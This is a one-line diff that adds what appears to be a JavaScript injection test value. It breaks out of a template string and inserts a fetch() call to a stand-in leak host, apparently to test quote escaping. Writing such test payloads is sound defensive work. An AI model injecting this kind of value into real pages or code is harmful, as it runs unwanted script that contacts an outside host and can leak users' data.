@@ -1,0 +1,1 @@
+`"`; fetch("https://js-template-hides-quote.leak.test/"); `"`
